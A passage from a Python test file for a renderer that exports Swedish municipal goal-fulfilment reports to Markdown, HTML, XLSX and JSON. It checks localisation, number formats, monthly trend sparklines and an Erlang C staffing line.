        assert inc.cell(row, 5).value == datetime(2022, 3, 14, 9, 12)
        assert wb["Förändringsstopp"].cell(row, 5).value == text
        assert wb["Överträdelser"].cell(row, 4).value == text
    goals = wb["Mål"]
    header = next(r for r in range(1, 20) if goals.cell(r, 1).value == "Kommunfullmäktiges mål")
    assert goals.cell(header + 1, 1).value == HOSTILE[0]
    budget = goals.cell(header + 6, 4)
    assert budget.value == -1412 and budget.data_type == "n"


def test_xlsx_text_keeps_what_xml_can_hold() -> None:
    title = "a\x01b\x1fc"  # control characters an XML file cannot carry
    wb = open_xlsx(render(hostile_report_with_title(title), "en", "xlsx"))
    assert wb["Incidents"]["C2"].value == "a\ufffdb\ufffdc"


def hostile_report_with_title(title: str) -> ReportInput:
    seed = seed_summary()
    first = seed.major_incidents[0]
    incident = MajorIncident(
        first.incident_id,
        first.service,
        title,
        first.severity,
        first.opened_at,
        first.resolved_at,
        first.duration_minutes,
    )
    return seed_report(summary=Summary([incident], seed.freezes, seed.violations))


def test_fixed_decimals_apply_to_every_format() -> None:
    ev = seed_evaluation()
    sick = ev.council_goals[1].board_goals[1].indicators[1]
    fixed = sick.indicator.model_copy(update={"decimals": 1})  # the results are frozen: rebuild
    b3 = ev.council_goals[1].board_goals[1]
    new_b3 = BoardGoalResult(
        b3.goal,
        (b3.indicators[0], IndicatorResult(fixed, 0.0729, 0.07, "achieved"), b3.indicators[2]),
        b3.status,
    )
    c2 = ev.council_goals[1]
    new_c2 = CouncilGoalResult(c2.goal, (c2.board_goals[0], new_b3), c2.status)
    report = seed_report()
    report = ReportInput(
        report.period_label,
        report.period_from,
        report.period_to,
        Evaluation((ev.council_goals[0], new_c2, ev.council_goals[2]), ev.status, ev.counts),
        report.area,
        report.summary,
        report.generated_at,
    )
    assert md_rows(nb(render(report, "sv", "md").decode()), "Kommunfullmäktiges mål")[4][3:6] == [
        "7,3 %",
        "7,0 %",
        "högst 7,0 %",
    ]
    cell = goal_cells(open_xlsx(render(report, "sv", "xlsx"))["Mål"])["Sjukfrånvaro"][3]
    assert cell.number_format == "0.0%"


# -- the entry point ---------------------------------------------------------------------


def test_unknown_format_or_language_is_refused() -> None:
    with pytest.raises(ValueError, match="no such format"):
        render(seed_report(), "sv", "pdf")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="no such language"):
        render(seed_report(), "de", "md")  # type: ignore[arg-type]


# -- month by month ----------------------------------------------------------------------


def trend_report() -> ReportInput:
    """Handling time 30, 20, 25 hours in January to March; answered calls 70 % and 80 %
    in January and February (no calls in March)."""
    return replace(
        seed_report(),
        trends={
            "handling-time": [
                (date(2022, 1, 1), 30.0),
                (date(2022, 2, 1), 20.0),
                (date(2022, 3, 1), 25.0),
            ],
            "answered-calls": [(date(2022, 1, 1), 0.70), (date(2022, 2, 1), 0.80)],
        },
    )


def test_markdown_shows_each_month_and_a_line_of_bars() -> None:
    text = nb(render(trend_report(), "sv", "md").decode())
    assert "### Månad för månad" in text
    assert "| Indikator | jan | feb | mars | Trend |" in text
    # Lowest ▁, highest █; 25 is half-way: 3.5 of 7 steps, rounded to the 5th bar.
    assert md_rows(text, "Indikator") == [
        ["Minska genomsnittlig ärendehanteringstid", "30 timmar", "20 timmar", "25 timmar", "█▁▅"],
        [CALLS, "70 %", "80 %", DASH, "▁█·"],  # no calls in March: a dot
    ]
    en = nb(render(trend_report(), "en", "md").decode())
    assert "| Indicator | Jan | Feb | Mar | Trend |" in en
    assert "| 30 h | 20 h | 25 h |" in en
    # No trends (a period of one month, or no stream indicators): no section.
    assert "Månad för månad" not in render(seed_report(), "sv", "md").decode()


def test_html_sparkline_has_its_values_in_words() -> None:
    page = nb(render(trend_report(), "sv", "html").decode())
    label = "jan 30 timmar, feb 20 timmar, mars 25 timmar"
    assert f'<svg class="spark" role="img" aria-label="{label}"' in page
    assert f"<title>{label}</title>" in page
    # x every 40 of 80 units; y from 16 (lowest) up to 2 (highest), 25 h half-way at 9.
    assert 'points="0.0,2.0 40.0,16.0 80.0,9.0"' in page
    # The calls stop in February: their line ends at February's x, under its column.
    assert 'points="0.0,16.0 40.0,2.0"' in page


def test_a_month_alone_between_gaps_is_a_dot() -> None:
    report = replace(
        seed_report(),
        trends={
            "handling-time": [(date(2022, 1, 1), 30.0), (date(2022, 3, 1), 20.0)],
            "answered-calls": [(date(2022, 2, 1), 0.5)],
        },
    )
    page = render(report, "sv", "html").decode()
    # Handling time: January and March, no line across February: two dots.
    assert '<circle r="1.5" cx="0.0" cy="2.0"/><circle r="1.5" cx="80.0" cy="16.0"/>' in page
    # A single value sits in the middle.
    assert '<circle r="1.5" cx="40.0" cy="9.0"/>' in page
    text = nb(render(report, "sv", "md").decode())
    assert md_rows(text, "Indikator")[1][-1] == "·▄·"


def test_xlsx_has_a_sheet_of_months_with_numbers() -> None:
    wb = open_xlsx(render(trend_report(), "sv", "xlsx"))
    assert wb.sheetnames[-1] == "Månad för månad"
    ws = wb["Månad för månad"]
    assert [c.value for c in ws[1]] == ["Indikator", "jan", "feb", "mars"]
    assert [c.value for c in ws[2]] == ["Minska genomsnittlig ärendehanteringstid", 30, 20, 25]
    assert ws["B2"].number_format == '#,##0 "timmar"'
    assert [c.value for c in ws[3]] == [CALLS, 0.7, 0.8, None]
    assert ws["B3"].number_format == "0%"
    # Without months, no such sheet.
    assert len(open_xlsx(render(seed_report(), "sv", "xlsx")).sheetnames) == 4


def test_json_has_the_title_what_statuses_were_judged_on_and_the_months() -> None:
    body = json.loads(render(trend_report(), "sv", "json"))
    assert body["title"] == f"Måluppfyllelse januari{DASH}augusti 2022"
    assert body["judged_on"] == "forecast"
    rows = {r["indicator_id"]: r for r in body["rows"]}
    assert rows["answered-calls"]["months"] == [
        {"month": "2022-01", "value": 0.70},
        {"month": "2022-02", "value": 0.80},
    ]
    assert rows["budget"]["months"] == []


# -- Staffing line -----------------------------------------------------------------------

SV_STAFFING = (
    "Bemanning: målet kräver i snitt 42 agenttimmar i veckan (Erlang C); "
    "perioden hade 31 timmar samtalstid i veckan."
)
EN_STAFFING = (
    "Staffing: the target needs on average 42 agent-hours a week (Erlang C); "
    "the period had 31 hours of talk time a week."
)


def staffed_report() -> ReportInput:
    # 41.5 and 30.6 hours: the line rounds half up to whole hours.
    found = PeriodStaffing(needed_hours=41.5, talk_hours=30.6)
    return replace(seed_report(), staffing={"answered-calls": found})


def test_staffing_line_under_the_goal_table_in_every_format() -> None:
    md = render(staffed_report(), "sv", "md").decode()
    lines = md.split("\n\n")
    table = next(i for i, part in enumerate(lines) if part.startswith("| Kommunfullmäktiges mål"))
    assert lines[table + 1] == SV_STAFFING
    assert EN_STAFFING in render(staffed_report(), "en", "md").decode()
    html = render(staffed_report(), "en", "html").decode()
    assert f'<p class="note">{EN_STAFFING}</p>' in html
    body = json.loads(render(staffed_report(), "sv", "json"))
    rows = {r["indicator_id"]: r for r in body["rows"]}
    assert rows["answered-calls"]["staffing"] == {
        "needed_agent_hours_per_week": 41.5,
        "talk_hours_per_week": 30.6,
        "text": SV_STAFFING,
    }
    assert rows["budget"]["staffing"] is None
    ws = open_xlsx(render(staffed_report(), "sv", "xlsx"))["Mål"]
    texts = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)]
    assert SV_STAFFING in texts
    assert texts.index(SV_STAFFING) < texts.index("Status per nämndmål")


def test_no_staffing_line_without_calls_or_talk_time() -> None:
    for lang in ("sv", "en"):
        md = render(seed_report(), lang, "md").decode()
        assert "Erlang C" not in md
    body = json.loads(render(seed_report(), "sv", "json"))
    assert all(r["staffing"] is None for r in body["rows"])
